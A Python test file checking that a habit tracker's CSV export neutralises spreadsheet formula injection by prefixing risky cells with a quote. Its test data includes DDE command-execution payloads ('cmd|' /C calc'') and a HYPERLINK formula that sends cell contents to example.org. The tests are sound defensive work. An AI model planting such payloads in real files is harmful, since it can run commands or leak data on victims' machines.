"""The CSV export and spreadsheets (issue 29, item 9): a text a person typed that begins with
= + - @, a tab or a carriage return is written with a single quote before it (OWASP's rule
against CSV injection), and so is one that begins with a quote, so that the rule is undone
exactly; numbers, dates, uuids and JSON cells are written as they are."""
import csv
import io
import zipfile

import pytest

from server.importers.export import CSV_FILES, TYPED, csv_row, neutralised, typed_text
from tests.api.helpers import day, put_checkin

from ..conftest import make_habit

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("https://example.org/?"&A1,"Open")', "+1 push-up", "-3 kg by June",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n=cmd|' /C calc'!A0", "'Tis the season",
           "''two quotes", "'=already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_typed_text_that_a_spreadsheet_would_run_gets_a_quote_and_comes_back(text):
    assert neutralised(text) == "'" + text
    assert typed_text(neutralised(text)) == text


@pytest.mark.parametrize("text", ["Walk", "", "3 kg", "I move = I live", " =1+1", "#1", "“=”",
                                  "é=1"])
def test_other_texts_are_written_as_they_are(text):
    assert neutralised(text) == text and typed_text(text) == text


def test_only_typed_text_is_neutralised_never_numbers_or_other_cells():
    row = csv_row({"habit_uuid": "u1", "date": "2024-01-02", "status": "done", "value": -3,
                   "note": "-3"}, {"u1": "=Walk"})
    assert row == {"habit_uuid": "u1", "habit_name": "'=Walk", "date": "2024-01-02",
                   "status": "done", "value": -3, "note": "'-3"}
    habit = csv_row({"name": "+Run", "target": -3.5, "position": -1, "schedule": {"type":
                     "daily"}, "unit": "-", "description": None}, {})
    assert (habit["name"], habit["target"], habit["position"], habit["schedule"],
            habit["unit"], habit["description"]) == ("'+Run", -3.5, -1, '{"type":"daily"}',
                                                     "'-", "")
    written = io.StringIO()
    csv.DictWriter(written, ["value", "note"], extrasaction="ignore").writerow(row)
    assert written.getvalue() == "-3,'-3\r\n"
    # Every column of the files is free text the rule covers, or a cell Orbit writes itself
    # (a new column has to be put on one side).
    assert {c for columns in CSV_FILES.values() for c in columns} - TYPED == {
        "uuid", "habit_uuid", "identity_uuid", "color", "position", "created_at", "kind",
        "measure", "target", "schedule", "start_date", "archived", "private", "effective_from",
        "anchor", "date", "status", "value", "mood", "time", "days", "channels", "enabled",
        "skip_if_done", "start", "end", "appointment", "never_miss_twice",
        "week_start", "prompt",  # a week's first day, a prompt's key (chapters, issue 24)
        "cheerful", "calm", "active", "rested", "interested"}  # WHO-5 answers, 0-5 (issue 25)


def csv_files(client):
    response = client.get("/export?format=csv")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    return {name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(
        archive.read(name).decode("utf-8-sig"), newline=""))) for name in archive.namelist()}


def test_the_export_of_hostile_texts_opens_safely_and_gives_them_back_exactly(client):
    identity = client.post("/identities", {"statement": HOSTILE[0]}).json
    lift = make_habit(client, name=HOSTILE[1], description=HOSTILE[2], measure="count",
                      unit="@home", target=3, identity_id=identity["id"], start_date=day(-9))
    quoted = make_habit(client, name=HOSTILE[6], start_date=day(-9))
    plain = make_habit(client, name="Walk", start_date=day(-9))
    put_checkin(client, lift, day(-1), {"value": 3, "note": HOSTILE[4]})
    put_checkin(client, quoted, day(-2), {"note": HOSTILE[7]})
    put_checkin(client, plain, day(-3), {"note": "river"})
    assert client.put(f"/reflections/{day(-1)}", {"mood": 4, "note": HOSTILE[5]}).status_code \
        in (200, 201)
    assert client.post("/pauses", {"habit_id": plain["id"], "start": day(-8), "end": day(-7),
                                   "note": HOSTILE[3]}).status_code == 201
    assert client.post("/reminders", {"target": "habit", "habit_id": lift["id"],
                                      "time": "07:30", "days": [0]}).status_code == 201
    export = client.get("/export").json
    names = {h["uuid"]: h["name"] for h in export["habits"]}
    export["rules"] = [{**rule, "habit_uuid": h["uuid"]} for h in export["habits"]
                       for rule in h["rules"]]
    files = csv_files(client)

    for kind, rows in files.items():
        assert len(rows) == len(export[kind]), kind
        for row, record in zip(rows, export[kind]):
            for column, cell_text in row.items():
                # No cell of any file begins as a formula...
                assert not cell_text.startswith(FORMULA_STARTS), (kind, column, cell_text)
                if column not in TYPED:
                    continue
                typed = names.get(record.get("habit_uuid"), "") if column == "habit_name" \
                    else record[column] or ""
                # ...and each typed text is in the OWASP form, and comes back as it was.
                assert cell_text == neutralised(typed) and typed_text(cell_text) == typed
    assert files["identities"][0]["statement"] == "'" + HOSTILE[0]
    habits = {h["uuid"]: h for h in files["habits"]}
    assert habits[lift["uuid"]]["name"] == "'+1 push-up"
    assert habits[lift["uuid"]]["description"] == "'-3 kg by June"
    assert habits[lift["uuid"]]["unit"] == "'@home" and habits[lift["uuid"]]["target"] == "3"
    assert habits[quoted["uuid"]]["name"] == "''Tis the season"
    assert habits[plain["uuid"]]["name"] == "Walk"
    assert {(c["habit_name"], c["value"], c["note"]) for c in files["checkins"]} == {
        ("'+1 push-up", "3", "'\t=1+1"), ("''Tis the season", "", "'''two quotes"),
        ("Walk", "", "river")}
    assert [r["note"] for r in files["reflections"]] == ["'\r\n=cmd|' /C calc'!A0"]
    assert [(p["habit_name"], p["note"]) for p in files["pauses"]] == [
        ("Walk", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    assert [r["habit_name"] for r in files["reminders"]] == ["'+1 push-up"]
